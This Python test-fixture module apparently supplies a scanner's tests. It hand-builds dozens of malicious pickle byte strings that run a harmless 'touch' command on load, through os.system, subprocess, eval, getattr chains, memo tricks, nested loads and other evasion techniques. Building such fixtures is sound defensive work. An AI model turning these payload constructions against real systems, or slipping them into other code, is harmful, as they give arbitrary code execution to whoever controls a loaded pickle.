"""Pickles that touch a file when they are loaded: each by another way to run code.

``malicious(canary)`` gives bytes by name. ``pickle.load`` of any but those in NEEDS_A_LOADER
creates the canary, which a test checks; looking into it must not.
"""

from __future__ import annotations

import os
import pickle
import struct
from pathlib import Path

NEEDS_A_LOADER = frozenset(
    {"persistent_id_text", "persistent_id_binary", "extension_1", "extension_2", "extension_4"}
)
"""Those that run code only in a loader with a persistent_load or a registry of its own."""

P2 = b"\x80\x02"
P4 = b"\x80\x04"


def malicious(canary: Path) -> dict[str, bytes]:
    """Return every malicious pickle that would touch ``canary``."""
    command = text(f"touch {canary}")
    code = text(f"open({str(canary)!r}, 'w').close()")
    made = {
        **_by_global(command, code),
        **_by_objects(command, canary),
        **_by_indirection(command, canary),
        **_hidden(command),
        **_by_state(command),
        **_by_loader(command),
    }
    for protocol in range(6):
        made[f"reduce_protocol_{protocol}"] = pickle.dumps(_Reduced(f"touch {canary}"), protocol)
    return made


class _Reduced:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self.command,)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def name(full: str) -> bytes:
    module, _, attribute = full.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _shell(command: bytes) -> bytes:
    return listed(text("/bin/sh"), text("-c"), command)


def _by_global(command: bytes, code: bytes) -> dict[str, bytes]:
    system = short("os") + short("system") + b"\x93"
    run = command + b"\x85R."
    return {
        "os_system": P2 + call(name("os.system"), command) + b".",
        "posix_system": P2 + call(name("posix.system"), command) + b".",
        "python_2_eval": P2 + call(name("__builtin__.eval"), code) + b".",
        "exec": P2 + call(name("builtins.exec"), code) + b".",
        "popen": P2 + call(name("os.popen"), command) + call(name("os.wait")) + b"00N.",
        "getoutput": P2 + call(name("subprocess.getoutput"), command) + b".",
        "check_call": P2 + call(name("subprocess.check_call"), _shell(command)) + b".",
        "pty_spawn": P2 + call(name("pty.spawn"), _shell(command)) + b".",
        "cprofile": P2 + call(name("cProfile.run"), code) + b".",
        "timeit": P2 + call(name("timeit.timeit"), code, text("pass"), name("time.time"), b"K\x01")
        + b".",
        "stack_global": P4 + system + run,
        "stack_global_dotted": P4 + short("shutil") + short("os.system") + b"\x93" + run,
        "stack_global_by_memo": P4 + short("os") + b"\x940" + short("system") + b"\x940h\0h\1\x93"
        + run,
        "framed": P4 + b"\x95" + struct.pack("<Q", len(system + run)) + system + run,
    }  # fmt: skip


def _by_objects(command: bytes, canary: Path) -> dict[str, bytes]:
    line = f"touch {canary}".encode()
    writer = name("io.FileIO") + text(str(canary)) + text("w")
    return {
        "inst": b"(S'" + line + b"'\nios\nsystem\n.",
        "obj": b"(" + name("os.system") + command + b"o.",
        "text_protocol_0": b"cos\nsystem\n(S'" + line + b"'\ntR.",
        "unicode_protocol_0": b"cos\nsystem\n(V" + line + b"\ntR.",
        "newobj": P2 + writer + b"\x86\x81(" + text(str(canary)) + text("w") + b"t0"
        + call(name("builtins.open"), text(str(canary)), text("w")) + b".",
        "newobj_ex": P4 + name("subprocess.Popen") + b")}\x920" + call(name("os.system"), command)
        + b".",
        "popen_object": P2 + call(name("subprocess.Popen"), _shell(command)) + b"0"
        + call(name("time.sleep"), b"G" + struct.pack(">d", 0.3)) + b".",
    }  # fmt: skip


def _by_indirection(command: bytes, canary: Path) -> dict[str, bytes]:
    inner = P2 + call(name("os.system"), command) + b"."
    nested = b"B" + struct.pack("<I", len(inner)) + inner
    imported = call(name("importlib.import_module"), text("os"))
    path = call(name("pathlib.Path"), text(str(canary)))
    system = call(name("builtins.getattr"), imported, text("system"))
    return {
        "nested_loads": P4 + call(name("pickle.loads"), nested) + b".",
        "nested_twice": P4
        + call(name("pickle.loads"), call(name("builtins.bytes"), nested)) + b".",
        "getattr_chain": P2 + call(system, command) + b".",
        "touch_by_getattr": P2 + call(call(name("builtins.getattr"), path, text("touch"))) + b".",
        "map_and_list": P2
        + call(name("builtins.list"), _mapped(command)) + b".",
        "partial": P2 + call(call(name("functools.partial"), name("os.system"), command)) + b".",
        "methodcaller": P2
        + call(call(name("operator.methodcaller"), text("system"), command), imported) + b".",
    }  # fmt: skip


def _mapped(command: bytes) -> bytes:
    return call(name("builtins.map"), name("os.system"), listed(command))


def _hidden(command: bytes) -> dict[str, bytes]:
    system = name("os.system")
    run = call(system, command)
    storage = text("storage") + name("torch.FloatStorage") + text("0") + text("cpu") + b"K\1"
    return {
        "memo_overwritten": P2 + name("builtins.list") + b"q\0000" + system + b"q\0000h\0" + command
        + b"\x85R.",
        "memo_far": P2 + system + b"r\xff\xff\x0f\0000j\xff\xff\x0f\0" + command + b"\x85R.",
        "memo_text": b"cos\nsystem\np7\n0g7\n(" + command + b"tR.",
        "after_harmless": P2 + b"}q\0" + text("weight") + b"K\1s" + run + b"0.",
        "popped_with_mark": P2 + b"}(" + run + b"1.",
        "duplicated": P2 + system + b"2" + command + b"\x85R0" + command + b"\x85R.",
        "in_a_key": P2 + b"}(" + run + b"K\1u.",
        "in_a_storage_id": P2 + run + b"0(" + storage + b"t.",
        "in_a_set": P4 + b"\x8f(" + run + b"\x90.",
        "in_a_frozenset": P4 + b"(" + run + b"\x91.",
        "second_mark": P2 + b"((" + run + b"tt.",
    }  # fmt: skip


def _by_state(command: bytes) -> dict[str, bytes]:
    partial = name("functools.partial") + name("builtins.len") + b"\x85R"
    state = b"(" + name("os.system") + command + b"\x85}Nt"
    return {
        # partial.__setstate__ takes another function in, which the next REDUCE calls.
        "build_setstate": P2 + partial + state + b"b)R.",
        "build_setstate_newobj": P2 + partial[:-1] + b"\x81" + state + b"b)R.",
        "build_before_call": P2 + call(name("collections.OrderedDict")) + b"}b0"
        + call(name("os.system"), command) + b".",
        "items_by_appends": P2 + call(name("collections.deque")) + b"("
        + call(name("os.system"), command) + b"e.",
    }  # fmt: skip


def _by_loader(command: bytes) -> dict[str, bytes]:
    return {
        "persistent_id_text": b"P" + command[5:] + b"\n.",
        "persistent_id_binary": P2 + command + b"Q.",
        "extension_1": P2 + b"\x82\1" + command + b"\x85R.",
        "extension_2": P2 + b"\x83\1\0" + command + b"\x85R.",
        "extension_4": P2 + b"\x84\1\0\0\0" + command + b"\x85R.",
    }
